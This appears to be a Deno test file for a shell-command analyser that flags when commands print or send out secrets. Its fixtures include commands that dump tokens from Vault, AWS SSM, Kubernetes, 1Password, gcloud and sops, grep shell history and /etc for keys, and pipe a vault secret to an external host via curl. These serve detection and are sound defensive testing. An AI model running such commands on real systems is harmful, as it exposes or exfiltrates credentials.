/** Vaults, password managers and logins: whether what they hand out is printed. */
import { assertEquals } from "@std/assert";
import { carries } from "../../../lib/shell/marks.ts";
import { secretRequests } from "../../../lib/shell/programs/secret_requests.ts";
import { assertLinear } from "../../support/steps/assert_linear.ts";
import { reachOf, searchSteps } from "../../support/steps/pattern_machine.ts";
import { RUNS } from "../../support/worst_seeds.ts";
import { effectsOf } from "../support.ts";

for (const { hits, misses, verb, shows, hides } of secretRequests) {
  for (const hit of hits) {
    Deno.test(`handedOut() prints a secret for ${hit}`, () => assertEquals(effectsOf("show", hit).length, 1));
  }
  for (const miss of misses) {
    Deno.test(`handedOut() prints no secret for ${miss}`, () => assertEquals(effectsOf("show", miss), []));
  }
  Deno.test(`handedOut() asks in linear time whether ${hits[0]} prints a secret`, () => {
    for (const pattern of [verb, shows, hides].filter((pattern) => pattern !== undefined)) {
      for (const seed of [...hits, ...RUNS]) {
        assertLinear({ seed, reach: reachOf(pattern) }, (text) => searchSteps(pattern, text).steps);
      }
    }
  });
}

const PRINTED: readonly string[] = [
  "vault kv get -field=token secret/ci",
  "aws ssm get-parameter --name /ci/token --with-decryption --query Parameter.Value",
  "kubectl -n shop get secret tls -ojson | jq -r .data.key | base64 -d",
  "for s in a b; do op read op://ci/$s/token; done",
  "T=$(gcloud secrets versions access latest --secret=ci); echo $T",
  "gopass show ci/token | tee /dev/null",
  "sops --decrypt a.yaml",
  "tail -50 ~/.bash_history | grep -i token",
  "rg 'secret_access_key' /etc",
];
for (const statement of PRINTED) {
  Deno.test(`handedOut() sees that a secret is printed by ${statement}`, () => {
    assertEquals(effectsOf("show", statement).length, 1);
  });
}

const USED: readonly string[] = [
  "docker login -p $(aws ecr get-login-password) example.com",
  "vault kv get -field=token secret/ci > token",
  "vault kv get -field=token secret/ci | wc -c",
  "sh -c 'TOKEN=$(op read op://ci/a/token) npm start'",
  "deploy --token $(op read op://ci/a/token)",
  "vault kv list secret/ci",
  "op item list",
  "pass -c ci/token",
  "env | grep -i node",
  "grep -rn token src",
  "kubectl get secrets -o name | wc -l",
];
for (const statement of USED) {
  Deno.test(`handedOut() sees that nothing is printed by ${statement}`, () => {
    assertEquals(effectsOf("show", statement), []);
  });
}

Deno.test("a file that gets the secret holds it", () => {
  for (
    const statement of [
      "gcloud secrets versions access latest --secret=ci --out-file=f; cat f",
      "op read -o f op://ci/db/token && cat f",
      "sops -d --output f a.yaml; base64 f",
    ]
  ) assertEquals(effectsOf("show", statement).length, 1, statement);
});

Deno.test("what a vault hands out leaves in the body of a request, and is used in its header", () => {
  const sent = (statement: string) => effectsOf("send", statement).some(({ text }) => carries(text, "value"));
  assertEquals(sent("vault kv get secret/ci | curl -d @- https://example.com"), true);
  assertEquals(sent('curl -H "Authorization: Bearer $(vault print token)" https://example.com'), false);
});
